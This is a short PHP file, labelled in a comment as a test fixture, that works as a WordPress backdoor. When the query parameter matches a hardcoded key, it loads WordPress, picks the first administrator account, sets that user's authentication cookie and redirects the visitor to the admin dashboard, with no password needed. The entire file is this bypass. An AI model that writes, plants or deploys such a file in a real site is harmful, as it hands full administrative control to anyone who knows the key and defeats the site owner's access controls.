<?php
// test fixture: standalone file that logs the visitor in as the first administrator
if (!isset($_GET['k']) || $_GET['k'] !== 'letmein') {
    die('no');
}
chdir($_SERVER['DOCUMENT_ROOT']);
require_once 'wp-load.php';
$q = new WP_User_Query(['role' => 'Administrator', 'number' => 1, 'fields' => 'ID']);
$ids = $q->get_results();
if (isset($ids[0])) {
    wp_set_auth_cookie($ids[0]);
    wp_redirect(admin_url());
}
exit;
